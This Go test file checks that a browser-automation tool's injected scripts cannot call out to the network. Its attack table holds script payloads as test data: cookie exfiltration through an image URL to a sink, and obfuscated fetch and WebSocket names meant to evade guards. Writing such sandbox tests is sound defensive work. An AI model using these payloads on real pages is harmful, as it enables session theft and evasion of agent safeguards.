package browser

import (
	"strings"
	"testing"
	"time"

	"rote/routine"
)

// left are functions that one script leaves in the page and a later one calls.
var left = []struct{ name, first, second, want string }{
	{"a function on window", `window.f = x => { let n = 0; for (let i = 0; i < 3; i++) n += x; return n }`, `return f(2)`, `6`},
	{"a function on an element", `document.querySelector('#out').f = () => 'left'`, `return document.querySelector('#out').f()`, `"left"`},
	{"an event handler property", `document.querySelector('#b').onmouseover = e => { e.target.dataset.over = '1' }`,
		`const b = document.querySelector('#b'); b.dispatchEvent(new MouseEvent('mouseover')); return b.dataset.over`, `"1"`},
	{"functions in an array", `window.list = [x => x + 1, x => x * 2]`, `return list.reduce((n, f) => f(n), 3)`, `8`},
	{"a method", `app.sum = function (a, b) { return a + b }`, `return app.sum(1, 2)`, `3`},
	{"a getter", `Object.defineProperty(window, 'g', { get: () => 'got' })`, `return g`, `"got"`},
	{"a getter on a prototype", `Object.defineProperty(Object.prototype, 'shout', { configurable: true, get() { return String(this) + '!' } })`, `return 'x'.shout`, `"x!"`},
	{"a setter", `Object.defineProperty(app, 's', { set(v) { window.kept = v } })`, `app.s = 4; return window.kept`, `4`},
	{"a Proxy", `window.p = new Proxy({}, { get: (o, k) => 'the ' + k })`, `return p.lamp`, `"the lamp"`},
	{"a class", `window.C = class { #n = 1; static make() { return new C() } get n() { return this.#n + 1 } }`, `return C.make().n`, `2`},
	{"a generator", `window.g3 = function* () { yield 1; yield 2 }`, `return [...g3()]`, `[1,2]`},
	{"a generator that has begun", `window.it = (function* () { yield 1; yield 2 })(); it.next()`, `return it.next().value`, `2`},
	{"an async function", `window.a = async x => { await null; await new Promise(r => setTimeout(r, 5)); return x }`, `return await a(7)`, `7`},
	{"an async generator", `window.ag = async function* () { yield 1; await null; yield 2 }`, `const out = []; for await (const x of ag()) out.push(x); return out`, `[1,2]`},
	{"a function of a frame", `frames[0].f = () => 'in the frame'`, `return frames[0].f()`, `"in the frame"`},
	{"a tagged template", "window.tag = (parts, x) => parts.join(x)", "return tag`a${1}b`", `"a1b"`},
	{"what makes the value's JSON", `window.o = { toJSON: () => ({ json: 1 }) }`, `return o`, `{"json":1}`},
	{"what makes the value's text", `window.o = { toString: () => 'text' }`, `return '' + o`, `"text"`},
	{"a thenable", `window.o = { then: ok => ok('kept') }`, `return await o`, `"kept"`},
	{"an iterator", `window.o = { *[Symbol.iterator]() { yield 'a' } }`, `return [...o]`, `["a"]`},
	{"a function that page code calls", `app.on('x', () => { window.heard = 'yes' })`, `app.emit(); return window.heard`, `"yes"`},
	{"a callback that page code calls later", `window.f = x => x + 1`, `return await app.later(() => f(1))`, `2`},
	{"a function that calls one of another script", `window.f = () => 'deep'; window.h = () => f()`, `return h()`, `"deep"`},
	{"a function that runs long", `window.f = n => { let s = 0; for (let i = 0; i < n; i++) { s += i % 7; s %= 1000 } return s }`, `return f(200000) >= 0`, `true`},
	{"a function that throws", `window.f = () => { throw new Error('mine') }`, `try { f() } catch (e) { return e.message }`, `"mine"`},
}

// A later script may call what an earlier one has left in the page, again and
// again. It is the second call that shows that the functions of the first are
// stopped again between the scripts.
func TestScriptsCallWhatEarlierOnesLeft(t *testing.T) {
	t.Parallel()
	onBoth(t, func(t *testing.T, b *Browser) {
		for i, c := range left {
			if sampled(b, i) {
				continue
			}
			t.Run(c.name, func(t *testing.T) {
				t.Parallel()
				p := guardedPage(t, b, guardSite(t, newSink(t))+"/")
				if _, err := p.Evaluate(testContext(t), script("(() => { "+c.first+" })()", 10*time.Second)); err != nil {
					t.Fatal(err)
				}
				e, err := p.Evaluate(testContext(t), script("(async () => { "+c.second+" })()", 10*time.Second))
				if err != nil || string(e.JSON) != c.want {
					t.Fatalf("%s %v, want %s", e.JSON, err, c.want)
				}
			})
		}
	})
}

// The functions that a script has left are bound by its rules when a later
// script calls them, also when the later one is proved to only read.
func TestFunctionsThatAScriptLeftAreHeldToItsRules(t *testing.T) {
	t.Parallel()
	attacks := []struct{ name, first, second string }{
		{"fetch", `window.f = () => fetch('SINK/')`, `f()`},
		{"fetch in a getter", `Object.defineProperty(window, 'g', { get: () => fetch('SINK/') })`, `return typeof window.g`},
		{"fetch in a getter of an element", `Object.defineProperty(Element.prototype, 'g', { get() { new Image().src = 'SINK/?' + document.cookie } })`, `return document.body.g`},
		{"fetch in toJSON", `window.o = { toJSON() { fetch('SINK/') } }`, `return window.o`},
		{"fetch in a generator that has begun", `window.it = (function* () { yield 1; fetch('SINK/') })(); it.next()`, `it.next()`},
		{"fetch after an await", `window.f = async () => { await null; await new Promise(r => setTimeout(r, 5)); fetch('SINK/') }`, `return f()`},
		{"fetch by the page", `app.on('x', () => fetch('SINK/'))`, `app.emit()`},
		{"fetch bound", `window.f = () => setTimeout(fetch, 5, 'SINK/')`, `f()`},
		{"any function of any object", `window.get = (o, k) => o[k]`, `get(window, [...'hctef'].reverse().join(''))('SINK/')`},
		{"a constructor of any name", `window.get = (o, k) => o[k]`, `new (get(window, [...'tekcoSbeW'].reverse().join('')))('ws://HOST/')`},
		{"a constructor by a name from the caller", `window.make = (o, k, x) => new o[k](x)`, `make(window, ['Web', 'Socket'].join(''), 'ws://HOST/')`},
		{"WebSocket", `window.f = () => new WebSocket('ws://HOST/')`, `f()`},
		{"EventSource", `window.f = C => new C('SINK/')`, `f(window['Event' + 'Source'])`},
		{"an image", `window.f = e => { e.src = 'SINK/' }`, `f(document.querySelector('#img'))`},
		{"a frame", `window.f = e => { e.src = 'SINK/' }`, `f(document.querySelector('#i'))`},
		{"a frame of its own", `window.f = () => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch('SINK/') }`, `f()`},
		{"a WebSocket of the page's frame", `window.f = () => new (frames[0]['Web' + 'Socket'])('ws://HOST/')`, `f()`},
		{"location", `window.f = o => { o.location = 'SINK/' }`, `f(window)`},
		{"an own link", `window.f = () => { const a = document.createElement('a'); a.href = 'SINK/'; document.body.append(a); a.click() }`, `f()`},
		{"window.open", `window.f = () => window.open('SINK/')`, `f()`},
		{"eval", `window.f = x => (0, eval)(x)`, `f('fetch("SINK/")')`},
		{"Function", `window.f = x => x.constructor`, `f(() => 1)('fetch("SINK/")')()`},
		{"a hook", `window.f = e => e.addEventListener('click', () => fetch('SINK/'))`, `f(document)`},
		{"a Worker", `window.f = x => new Worker(x)`, `f('/w.js')`},
	}
	onBoth(t, func(t *testing.T, b *Browser) {
		for i, a := range attacks {
			if sampled(b, i) {
				continue
			}
			t.Run(a.name, func(t *testing.T) {
				t.Parallel()
				s := newSink(t)
				p := guardedPage(t, b, guardSite(t, s)+"/")
				fill := strings.NewReplacer("SINK", s.url, "HOST", s.host)
				if _, err := p.Evaluate(testContext(t), script("(() => { "+fill.Replace(a.first)+" })()", 10*time.Second)); err != nil {
					t.Fatal(err)
				}
				_, err := p.Evaluate(testContext(t), script("(() => { "+fill.Replace(a.second)+" })()", 10*time.Second))
				if err == nil { // it may show only after the call
					_, err = p.WaitURL(testContext(t), func(string) (bool, error) { return false, nil })
				}
				wantCode(t, err, routine.CodeScriptBlocked, "the script tried to")
				p.Close()
				if n := s.hits.Load(); n != 0 {
					t.Errorf("%d connections and requests at the sink", n)
				}
			})
		}
	})
}

// A script that waits for what an earlier one has left waiting never gets it.
// Its error can say why.
func TestScriptsThatWaitForWhatWasStopped(t *testing.T) {
	t.Parallel()
	for name, first := range map[string]string{
		"an async function that waits":    `window.p = (async () => { await new Promise(ok => list.push(ok)); return 1 })()`,
		"a function that page code calls": `window.p = new Promise(ok => list.push(() => ok(1)))`,
		"a reaction to a promise":         `window.p = new Promise(ok => list.push(ok)).then(() => fetch('SINK/'))`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newSink(t)
			p := openPage(t, site(t, map[string]any{"/": `<script>list = []</script><button id=b onclick="list.forEach(f => f())">b</button>`})+"/")
			if e, err := p.Evaluate(testContext(t), script("(() => { "+strings.ReplaceAll(first, "SINK", s.url)+" })()", 10*time.Second)); err != nil || e.LeftoversStopped {
				t.Fatal(e, err)
			}
			if _, err := p.Click(testContext(t), click("#b")); err != nil {
				t.Fatal(err)
			}
			e, err := p.Evaluate(testContext(t), script(`(async () => await p)()`, time.Second))
			wantCode(t, err, routine.CodeTimeout, "")
			if !e.LeftoversStopped {
				t.Error("it does not tell that the first script's code was stopped")
			}
			p.Close()
			if n := s.hits.Load(); n != 0 {
				t.Errorf("%d connections and requests at the sink", n)
			}
		})
	}
}

// Code that a later script has set going again is stopped when that script ends.
func TestCodeThatAScriptLeftStopsAgain(t *testing.T) {
	t.Parallel()
	for name, second := range map[string]string{
		"a script that returns":  `(async () => { while (ticks() < 3) await new Promise(r => setTimeout(r, 5)) })()`,
		"a script that throws":   `(async () => { while (ticks() < 3) await new Promise(r => setTimeout(r, 5)); throw new Error('of its own') })()`,
		"a script that is ended": `(async () => { for (;;) { ticks(); await new Promise(r => setTimeout(r, 5)) } })()`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := guardedPage(t, shared, guardSite(t, newSink(t))+"/")
			eval(t, p, `(() => { let n = 0; window.ticks = () => n; setInterval(() => { document.body.dataset.ticks = ++n }, 5) })()`)
			limit := testTime / 2
			if name == "a script that is ended" {
				limit = time.Second
			}
			_, err := p.Evaluate(testContext(t), script(second, limit))
			if want := map[string]routine.Code{"a script that throws": routine.CodeScriptError, "a script that is ended": routine.CodeTimeout}[name]; routine.CodeOf(err) != want && (want != "" || err != nil) {
				t.Fatal(err)
			}
			was := eval(t, p, `(() => document.body.dataset.ticks)()`)
			if got := eval(t, p, `(async () => { await new Promise(r => setTimeout(r, 100)); return document.body.dataset.ticks })()`); got != was || was == "null" {
				t.Fatalf("the interval of the first script runs on: %s, then %s", was, got)
			}
		})
	}
}

// When the page calls a function that a script has left, the call is stopped and the
// run gets a warning.
func TestCallsOfLeftoverFunctionsAreStopped(t *testing.T) {
	p := guardedPage(t, shared, site(t, map[string]any{"/": `<button id=b onclick="hook(); document.title = 'after'">b</button>`})+"/")
	eval(t, p, `(() => { window.hook = () => [1] })()`)
	if _, err := p.Click(testContext(t), click("#b")); err != nil {
		t.Fatal(err)
	}
	if w := strings.Join(p.Warnings(), "\n"); !strings.Contains(w, "page code called a function that an earlier js_evaluate script had left") {
		t.Fatalf("warnings %q", w)
	}
}

// A function that only returns a constant is no hook: the page's own code that
// calls it continues, even after another script has run.
func TestPagesCallConstantFunctionsThatScriptsLeft(t *testing.T) {
	t.Parallel()
	url := site(t, map[string]any{"/": `<button id=b onclick="this.textContent = [window.ask(), window.confirm('sure?'), 'done']">b</button>
		<script>window.ask = () => 'page'</script>`})
	onBoth(t, func(t *testing.T, b *Browser) {
		for i, c := range []struct{ script, want string }{
			{`window.confirm = () => true;`, "page,true,done"},
			{`window.confirm = function (message) { return true }; window.ask = () => 'mine';`, "mine,true,done"},
			{"window.confirm = () => !0\n\n", "page,true,done"},
			{`window.confirm = () => {}; window.f = () => { document.title = 'x' };`, "page,,done"},
			{`window.confirm = m => { document.title = m; return true };`, "b"}, // does something, and is stopped
		} {
			if sampled(b, i) {
				continue
			}
			t.Run(c.script, func(t *testing.T) {
				t.Parallel()
				p := guardedPage(t, b, url+"/")
				for range 2 { // the second comes in a task of its own
					eval(t, p, "(() => { "+c.script+" })()")
				}
				if _, err := p.Click(testContext(t), click("#b")); err != nil {
					t.Fatal(err)
				}
				if got, err := p.HTML(testContext(t), "#b"); err != nil || !strings.Contains(got, ">"+c.want+"<") {
					t.Fatal(got, err)
				}
				stopped := strings.Contains(strings.Join(p.Warnings(), ""), "js_evaluate script had left")
				if stopped != (c.want == "b") {
					t.Error("stopped: ", stopped)
				}
			})
		}
	})
}
